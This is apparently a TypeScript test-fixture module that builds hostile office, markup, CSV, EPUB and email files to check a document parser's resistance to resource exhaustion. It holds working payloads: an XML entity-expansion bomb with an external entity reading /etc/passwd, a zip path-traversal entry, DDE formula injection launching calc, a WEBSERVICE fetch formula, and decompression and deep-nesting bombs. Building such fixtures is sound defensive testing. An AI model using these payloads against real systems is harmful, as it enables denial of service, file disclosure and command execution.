/** Markup documents that try to use excessive time or memory; each is made on request. */
import { strToU8, zipSync } from "fflate";
import { paragraph, wordFile } from "./word-file.ts";
import { changeParts } from "./zip-parts.ts";
import { relationships, sheetData, workbookFile } from "./workbook-file.ts";

const MANY = 10_000;

const nested = (open: string, close: string, inside: string, count = MANY): string =>
  `${open.repeat(count)}${inside}${close.repeat(count)}`;

const ODF =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"';

function flatOdf(kind: "text" | "spreadsheet", body: string): Uint8Array {
  return strToU8(
    `<?xml version="1.0"?><office:document ${ODF} office:mimetype="application/vnd.oasis.opendocument.${kind}"><office:body><office:${kind}>${body}</office:${kind}></office:body></office:document>`,
  );
}

function epubOf(files: Readonly<Record<string, Uint8Array>>): Uint8Array {
  return zipSync({ mimetype: [strToU8("application/epub+zip"), { level: 0 }], ...files });
}

const ENTITIES = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at} "${`&a${at === 0 ? "" : at - 1};`.repeat(10)}">`).join("")}<!ENTITY f SYSTEM "file:///etc/passwd">]>`;

function withEntities(zip: "word" | "sheet"): Uint8Array {
  if (zip === "word") return wordFile(paragraph("&a19;&f;"));
  return workbookFile({ sheet: "<sheetData/>", files: { "xl/sheet.xml": `${ENTITIES}<worksheet>&a19;</worksheet>` } });
}

/** A presentation whose slide is its own layout, with nested groups. */
function slidesThatReferToThemselves(): Uint8Array {
  const P =
    'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
  const self = (type: string): string => relationships([["r1", type, "p.xml"]]);
  const groups = nested("<p:grpSp>", "</p:grpSp>", "", 300);
  return zipSync({
    "[Content_Types].xml": strToU8(
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>',
    ),
    "_rels/.rels": strToU8(self("officeDocument")),
    "_rels/p.xml.rels": strToU8(
      relationships([
        ["r1", "slide", "p.xml"],
        ["r2", "slideLayout", "p.xml"],
        ["r3", "slideMaster", "p.xml"],
        ["r4", "notesSlide", "p.xml"],
      ]),
    ),
    "p.xml": strToU8(
      `<p:presentation ${P}><p:sldIdLst>${'<p:sldId r:id="r1"/>'.repeat(50)}</p:sldIdLst><p:cSld><p:spTree>${groups}</p:spTree></p:cSld></p:presentation>`,
    ),
  });
}

const SELF = relationships([["r1", "aFChunk", "text.xml"]]);

/** Files by the name of the attack. */
export const HOSTILE_MARKUP: Readonly<Record<string, () => Uint8Array>> = {
  "docx: ten thousand tables in each other": () =>
    wordFile(nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", "")),
  "docx: a hundred tables in each other": () =>
    wordFile(nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", paragraph("deep"), 120)),
  "docx: ten thousand list items, each deeper": () =>
    wordFile(
      Array.from({ length: MANY }, (_, at) =>
        paragraph("item", `<w:numPr><w:ilvl w:val="${at}"/><w:numId w:val="1"/></w:numPr>`),
      ).join(""),
    ),
  "docx: a cell over a million columns": () =>
    wordFile(
      `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>${paragraph("wide")}</w:tc></w:tr></w:tbl>`,
    ),
  "docx: a text that is a part of itself": () =>
    zipWith(wordFile('<w:altChunk r:id="r1"/>'), { "main/_rels/text.xml.rels": SELF }),
  "docx: entities": () => withEntities("word"),
  "docx: styles that are based on each other": () =>
    wordFile(paragraph("looped", '<w:pStyle w:val="A"/>'), {
      styles:
        '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style>',
    }),
  "docx: paths that lead out": () => zipWith(wordFile(paragraph("a")), { "../../../tmp/evil.xml": "<x/>" }),
  "docx: five megabytes of blanks": () => wordFile(`${" ".repeat(5_000_000)}${paragraph("a")}`),
  "pptx: a slide that is its own layout, master and notes": slidesThatReferToThemselves,
  "xlsx: a cell at the last row and column": () =>
    workbookFile({
      sheet: `<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>`,
    }),
  "xlsx: all cells merged, and hidden": () =>
    workbookFile({
      sheet: `<cols><col min="1" max="16384" hidden="1"/></cols>${sheetData([["a", 1]])}<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(200)}</mergeCells>`,
    }),
  "xlsx: twenty thousand rows out of order": () =>
    workbookFile({
      sheet: `<sheetData>${Array.from({ length: 20_000 }, (_, at) => `<row r="${1_048_576 - at * 7}"><c><v>${at}</v></c></row>`).join("")}</sheetData>`,
    }),
  "xlsx: cells far apart from each other": () =>
    workbookFile({
      sheet: `<sheetData>${Array.from({ length: 5000 }, (_, at) => `<row r="${at * 100 + 1}"><c r="${at % 2 === 0 ? "A" : "XFD"}${at * 100 + 1}"><v>${at}</v></c></row>`).join("")}</sheetData>`,
    }),
  "xlsx: entities": () => withEntities("sheet"),
  "xlsx: formulas that call and fetch": () =>
    workbookFile({
      sheet: `<sheetData><row><c t="str"><f>WEBSERVICE("http://example.org/"&amp;A2)</f><v>=cmd|' /C calc'!A0</v></c><c><f>1+1</f></c></row></sheetData>`,
    }),
  "xlsx: a number format of a hundred thousand chars": () =>
    workbookFile({
      sheet: `<sheetData><row><c s="0"><v>1.5</v></c></row></sheetData>`,
      styles: `<numFmts><numFmt numFmtId="170" formatCode="${"[h]0.0?/?".repeat(10_000)}"/></numFmts><cellXfs><xf numFmtId="170"/></cellXfs>`,
    }),
  "xlsx: a drawing of itself": () =>
    workbookFile({
      sheet: sheetData([["a", 1]]),
      sheetParts: [{ id: "d", type: "drawing", target: "<xdr/>" }],
      files: { "xl/_rels/d.xml.rels": relationships([["r", "drawing", "d.xml"]]) },
    }),
  "xlsx: a Word document that says that it is a workbook": () =>
    zipWith(wordFile(paragraph("really a text")), {
      "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    }),
  "odt: ten thousand lists in each other": () =>
    flatOdf("text", nested("<text:list><text:list-item>", "</text:list-item></text:list>", "<text:p>deep</text:p>")),
  "odt: a cell repeated a thousand million times": () =>
    flatOdf(
      "text",
      '<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
    ),
  "ods: rows and cells repeated a thousand million times": () =>
    flatOdf(
      "spreadsheet",
      '<table:table table:name="s"><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000" table:number-columns-spanned="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
    ),
  "rtf: ten thousand groups in each other": () => strToU8(`{\\rtf1 ${nested("{", "}", "deep")}}`),
  "rtf: a hundred thousand cells without an end": () =>
    strToU8(`{\\rtf1 \\trowd${"\\cellx9999999\\intbl a\\cell ".repeat(MANY)}\\row}`),
  "rtf: numbers beyond all bounds": () =>
    strToU8("{\\rtf1\\ansicpg99999999999\\uc999999999\\u99999999999? \\bin99999999999 x}"),
  "html: ten thousand tables in each other": () => strToU8(nested("<table><tr><td>", "</table>", "deep")),
  "html: ten thousand lists in each other": () => strToU8(nested("<ul><li>", "</ul>", "deep")),
  "html: ten thousand formatting elements": () => strToU8(`<p>${nested("<b><i><a>", "", "deep")}`),
  "html: a cell over a million columns": () =>
    strToU8(`<table>${'<tr><td colspan="1000000000" rowspan="1000000000">x</td></tr>'.repeat(200)}</table>`),
  "html: a style sheet of ten thousand rules": () =>
    strToU8(
      `<style>${"a b c d e f > g ~ h { display: none } ".repeat(MANY)}</style>${"<p class=a>x</p>".repeat(2000)}`,
    ),
  "markdown: ten thousand quotes in each other": () => strToU8(`# t\n\n${"> ".repeat(MANY)}deep\n`),
  "markdown: ten thousand lists in each other": () =>
    strToU8(`# t\n\n${Array.from({ length: 1000 }, (_, at) => `${"  ".repeat(at)}- x`).join("\n")}\n`),
  "markdown: brackets and stars that never close": () =>
    strToU8(`# t\n\n${"[".repeat(MANY)}${"*a ".repeat(MANY)}${"`".repeat(MANY)}\n`),
  "csv: a hundred thousand separators": () => strToU8(`a,b\n${",".repeat(100_000)}\n=cmd|' /C calc'!A0,+1\n`),
  "csv: a quote that never closes": () => strToU8(`a,b\n1,"${"x,\n".repeat(50_000)}`),
  "epub: a book of ten thousand links to itself": () =>
    epubOf({
      "META-INF/container.xml": strToU8(
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="b.opf"/></rootfiles></container>',
      ),
      "b.opf": strToU8(
        `<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="../../a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="b.opf" media-type="application/xhtml+xml"/></manifest><spine>${'<itemref idref="b"/><itemref idref="a"/>'.repeat(500)}</spine></package>`,
      ),
    }),
  "eml: parts in each other a thousand deep": () =>
    strToU8(
      `From: a@example.org\nSubject: deep\nMIME-Version: 1.0\n${Array.from({ length: 1000 }, (_, at) => `Content-Type: multipart/mixed; boundary="b${at}"\n\n--b${at}\n`).join("")}Content-Type: text/plain\n\nhello\n`,
    ),
  "zip: a file that unpacks to a thousand times its size": () =>
    wordFile(`<w:p><w:r><w:t>${"a".repeat(2_000_000)}</w:t></w:r></w:p>`),
  "zip: an archive of nothing that is read": () => zipSync({ "word/notes.txt": strToU8("not a document") }),
};

function zipWith(zip: Uint8Array, files: Readonly<Record<string, string>>): Uint8Array {
  return changeParts(
    zip,
    (name, bytes) => (name in files ? null : bytes),
    Object.fromEntries(Object.entries(files).map(([path, text]) => [path, strToU8(text)])),
  );
}
